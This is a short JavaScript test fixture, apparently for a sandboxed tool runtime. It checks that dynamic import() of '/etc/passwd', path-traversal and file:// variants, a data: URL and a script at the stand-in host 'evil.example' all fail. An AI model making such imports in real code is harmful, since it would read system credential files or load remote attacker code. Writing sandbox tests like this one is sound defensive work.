// attacks: import() of files, URLs and data
// expect: result [true,true,true,true,true,true]
export default {
  tools: {
    run: {
      async execute() {
        const names = ["/etc/passwd", "./other.js", "file:///etc/passwd", "https://evil.example/x.js", "data:text/javascript,export default 1", "../../../../etc/passwd"];
        const ends = await Promise.allSettled(names.map((name) => import(name)));
        return ends.map((end) => end.status === "rejected");
      },
    },
  },
};
